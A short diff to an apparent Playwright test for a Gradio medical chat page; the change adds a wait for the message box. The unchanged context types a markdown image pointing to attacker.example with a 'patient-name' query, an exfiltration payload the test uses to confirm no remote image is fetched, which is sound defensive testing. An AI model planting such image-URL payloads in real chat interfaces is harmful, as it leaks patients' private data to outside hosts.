@@ -129,6 +129,7 @@ def test_page_welcomes_labels_fetches_no_remote_image_and_lists_the_timeline(app
     # The label is set when the page has loaded (Gradio renders the textarea first): wait for it, then find the box by it.
     page.wait_for_function("document.querySelector('#input textarea')?.getAttribute('aria-label')", timeout=TIMEOUT_MS)
     box = page.get_by_label("Your message to the assistant")
+    box.wait_for(timeout=TIMEOUT_MS)  # the label is set by a load script that may run after the welcome shows
     assert box.count() == 1
 
     box.fill("What is hypertension? ![x](http://attacker.example/pixel.png?q=patient-name)")
